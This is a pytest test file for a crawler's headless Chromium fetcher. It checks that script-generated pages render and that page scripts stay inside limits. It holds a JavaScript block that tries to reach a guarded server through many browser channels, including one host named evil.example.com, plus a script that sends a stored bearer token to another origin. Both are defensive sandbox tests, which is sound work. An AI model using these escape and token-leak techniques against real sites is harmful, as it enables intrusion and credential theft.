"""Pages made by scripts, and what those scripts may not do."""

import os
import shutil
import socket
from collections.abc import Callable, Iterator
from dataclasses import replace

import pytest

from ingest.fetch.browser import Browser
from ingest.fetch.login import LoginData, SiteLogin
from ingest.fetch.media import FetchLimits
from schemas.fetch import FetchRequest, FetchStatus
from tests.fakes.fetching import AGENT, fetch_one, session_for
from tests.fakes.site_server import Ask, Reply, Site, serve

_USUAL = FetchLimits()
_SHELL = b"<!doctype html><html><head><title>House</title></head><body><main id=m>%s</main></body></html>"
_LOADS = (
    b"fetch('/data.json').then(r => r.json()).then(d => {"
    b"document.getElementById('m').innerHTML = '<h1>' + d.title + '</h1><p>' + navigator.userAgent + '</p>'})"
)


def _script(code: str | bytes) -> Reply:
    body = code if isinstance(code, bytes) else code.encode()
    return Reply(_SHELL % (b"<script>" + body + b"</script>"), headers={"ETag": '"shell"'})


@pytest.fixture
def browser() -> Browser:
    """Chromium, not started yet."""
    pytest.importorskip("playwright", reason="the extra js is not installed")
    program = os.environ.get("SITEGRAPH_CHROMIUM") or shutil.which("chromium")
    if program is None:
        pytest.skip("Chromium is not installed")
    return Browser(executable=program, sandbox=os.geteuid() != 0, user_agent=AGENT)


@pytest.fixture
def guarded() -> Iterator[Site]:
    """A server that nobody may reach; it lists whoever connects."""
    with serve(Site({"/": Reply(b"secret")})) as site:
        yield site


def test_a_page_yields_the_text_its_scripts_make(browser: Browser) -> None:
    shell = Reply(_SHELL % b"<script src='/app.js'></script><img src='/p.png'>", headers={"ETag": '"1"'})
    site = Site({"/a": shell, "/b": shell, "/app.js": Reply(_LOADS, content_type="text/javascript")})
    site.pages["/data.json"] = Reply('{"title": "Fässer"}'.encode(), content_type="application/json")
    with serve(site), session_for(site, browser=browser) as session:
        first = fetch_one(session, FetchRequest(url=site.url("/a"), etag='"1"'))
        assert first.status is FetchStatus.OK
        assert "<h1>Fässer</h1>" in (first.body or b"").decode()
        assert AGENT.encode() in (first.body or b"")
        assert (first.content_type, first.etag) == ("text/html; charset=utf-8", None)
        assert (site.paths(), first.requests) == (["/a", "/app.js", "/data.json"], 3)
        assert fetch_one(session, site.url("/b")).status is FetchStatus.OK
        assert site.paths()[3:] == ["/b", "/data.json"]
        assert {ask.headers["user-agent"] for ask in site.log} == {AGENT}
        assert all("if-none-match" not in ask.headers for ask in site.log)


def test_what_is_no_page_is_left_as_it_is(browser: Browser) -> None:
    site = Site({"/a.md": Reply(b"# <script>1</script>", content_type="text/markdown")})
    site.pages["/a.pdf"] = Reply(b"%PDF-1.7\n%%EOF", headers={"ETag": '"1"'})
    with serve(site), session_for(site, browser=browser) as session:
        assert fetch_one(session, site.url("/a.md")).body == b"# <script>1</script>"
        assert fetch_one(session, site.url("/a.pdf")).etag == '"1"'


_TRICKS = """
const it = 'HOST', at = 'http://' + it
const quiet = f => { try { f() } catch (e) { } }
const add = (tag, set) => document.body.append(Object.assign(document.createElement(tag), set))
quiet(() => fetch(at + '/fetch').catch(() => 0))
quiet(() => fetch('/led').catch(() => 0))
quiet(() => { const x = new XMLHttpRequest(); x.open('GET', at + '/xhr'); x.send() })
quiet(() => new WebSocket('ws://' + it + '/ws'))
quiet(() => new EventSource(at + '/events'))
quiet(() => navigator.sendBeacon(at + '/beacon', 'x'))
quiet(() => window.open(at + '/popup'))
const call = `fetch('${at}/worker'); new WebSocket('ws://${it}/w')`
const code = URL.createObjectURL(new Blob([call], { type: 'text/javascript' }))
quiet(() => new Worker(code))
quiet(() => new SharedWorker(code))
quiet(() => navigator.serviceWorker.register('/sw.js').catch(() => 0))
for (const tag of ['img', 'iframe', 'script', 'video', 'embed']) add(tag, { src: at + '/' + tag })
for (const rel of ['stylesheet', 'preconnect', 'dns-prefetch', 'prefetch', 'preload', 'prerender'])
  add('link', { rel, href: at + '/' + rel, as: 'script' })
quiet(() => {
  const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:STUN' }] })
  c.createDataChannel('x')
  c.createOffer().then(o => c.setLocalDescription(o))
})
add('p', { textContent: 'all tricks ' + 'tried' })
setTimeout(() => { location = at + '/away' }, 300)
"""


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost", "evil.example.com", "[::ffff:127.0.0.1]"])
def test_no_script_reaches_a_guarded_server(
    browser: Browser, guarded: Site, resolver: dict[str, Callable[[], list[str]]], name: str
) -> None:
    resolver["docs.example.com"] = resolver["evil.example.com"] = lambda: ["127.0.0.1"]
    it = f"{name}:{guarded.address.rpartition(':')[2]}"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stun:
        stun.bind(("127.0.0.1", 0))
        stun.setblocking(False)
        tricks = _TRICKS.replace("HOST", it).replace("STUN", str(stun.getsockname()[1]))
        away = Reply(b"", 302, {"Location": f"http://{it}/led"})
        site = Site({"/": _script(tricks), "/led": away})
        with serve(site), session_for(site, browser=browser) as session:
            port = site.address.rpartition(":")[2]
            result = fetch_one(session, f"http://docs.example.com:{port}/")
        assert b"all tricks tried" in (result.body or b""), result.reason
        assert (guarded.log, guarded.most_connections) == ([], 0)
        with pytest.raises(BlockingIOError):
            stun.recv(1)


def test_robots_txt_holds_for_what_scripts_ask_for(browser: Browser) -> None:
    site = Site({"/": _script(_LOADS), "/data.json": Reply(b'{"title": "kept"}')})
    site.pages["/robots.txt"] = Reply(b"User-agent: *\nDisallow: /data", content_type="text/plain")
    with serve(site), session_for(site, browser=browser) as session:
        assert fetch_one(session, site.url("/")).status is FetchStatus.OK
        assert site.paths() == ["/"]


def test_another_sites_piece_is_refused_where_a_private_address_is_used(
    browser: Browser, guarded: Site
) -> None:
    site = Site({"/": _script(f"fetch('{guarded.url('/')}')")})
    with serve(site), session_for(site, guarded, browser=browser) as session:
        assert fetch_one(session, site.url("/")).status is FetchStatus.OK
    assert guarded.log == []


def test_a_piece_that_its_own_site_was_given_is_refused_to_another(browser: Browser) -> None:
    secret = Reply(b"document.body.append('se' + 'cret')", content_type="text/javascript")
    owner = Site({"/": Reply(_SHELL % b"<script src=/app.js></script>"), "/app.js": secret})
    with serve(owner), serve(Site()) as other, session_for(owner, other, browser=browser) as session:
        other.pages["/"] = Reply(_SHELL % f"<script src={owner.url('/app.js')}></script>".encode())
        first, second = (fetch_one(session, site.url("/")) for site in (owner, other))
    assert b"secret" in (first.body or b"")
    assert second.status is FetchStatus.OK
    assert b"secret" not in (second.body or b"")


def test_a_page_whose_own_piece_fails_is_no_document(browser: Browser) -> None:
    site = Site({"/": _script(_LOADS), "/data.json": Reply(b"", 503)})
    with serve(site), session_for(site, browser=browser) as session:
        result = fetch_one(session, site.url("/"))
    assert (result.status, result.body) == (FetchStatus.FAILED, None)
    assert "/data.json was unavailable: HTTP 503" in result.reason


def test_scripts_without_an_end_or_a_measure_fail_and_the_next_page_is_shown(browser: Browser) -> None:
    limits = replace(_USUAL, html=replace(_USUAL.html, seconds=8.0, max_bytes=200_000))
    site = Site({"/": _script("document.body.append('shown')"), "/loop": _script("for (;;) {}")})
    site.pages["/flood"] = _script("document.body.append('x'.repeat(300000))")
    with serve(site), session_for(site, browser=browser, limits=limits) as session:
        told = [fetch_one(session, site.url(path)) for path in ("/loop", "/flood", "/")]
    assert [one.status for one in told] == [FetchStatus.FAILED, FetchStatus.REFUSED, FetchStatus.OK]
    assert "did not come to an end" in told[0].reason
    assert "200000 bytes" in told[1].reason
    assert b"shown" in (told[2].body or b"")


_OWN = "m.textContent = `held: ${localStorage.getItem('token')}${localStorage.length}`"


def test_a_page_finds_what_a_login_keeps_for_its_origin_and_no_other(browser: Browser) -> None:
    with serve(Site({"/a": _script(_OWN)})) as site, serve(Site({"/a": _script(_OWN)})) as other:
        kept = {
            site.origin: {"token": "</script>ä\u2028'\""},
            "https://docs.example.org": {"token": "theirs"},
        }
        program, sandbox = browser._executable, browser._sandbox
        filled = Browser(executable=program, sandbox=sandbox, user_agent=AGENT, storage=kept)
        with session_for(site, other, browser=filled) as session:
            own = (fetch_one(session, site.url("/a")).body or b"").decode()
            assert "held: &lt;/script&gt;ä\u2028'\"1" in own
            assert b"held: null0" in (fetch_one(session, other.url("/a")).body or b"")


_TOKEN = """const headers = {Authorization: 'Bearer ' + localStorage.getItem('token')}
for (const at of ['/own', 'OTHER/theirs', '/led'])
  fetch(at, {headers}).then(r => r.text()).then(t => { m.textContent += t }).catch(() => 0)"""


def test_what_scripts_make_of_a_kept_token_goes_to_the_site_itself_and_nowhere_else(browser: Browser) -> None:
    def own(ask: Ask) -> Reply:
        known = ask.headers.get("authorization") == "Bearer s3same"
        return Reply(b"let in ", content_type="text/plain") if known else Reply(b"", 401)

    with serve(Site({"/theirs": Reply(b"theirs")}), host="127.0.0.2") as other, serve(Site()) as site:
        led = Reply(b"", 302, {"Location": other.url("/theirs")})
        site.pages = {"/a": _script(_TOKEN.replace("OTHER", other.origin)), "/own": own, "/led": led}
        program, sandbox = browser._executable, browser._sandbox
        kept = {site.origin: {"token": "s3same"}}
        for storage in (kept, {}):
            filled = Browser(executable=program, sandbox=sandbox, user_agent=AGENT, storage=storage)
            login = SiteLogin(LoginData(storage=storage))
            with session_for(site, other, browser=filled, login=login) as session:
                shown = fetch_one(session, site.url("/a")).body or b""
            assert (b"let in" in shown) is bool(storage)
        assert other.log == []
        assert {ask.headers.get("authorization") for ask in site.log if ask.path != "/own"} <= {
            None,
            "Bearer s3same",
        }
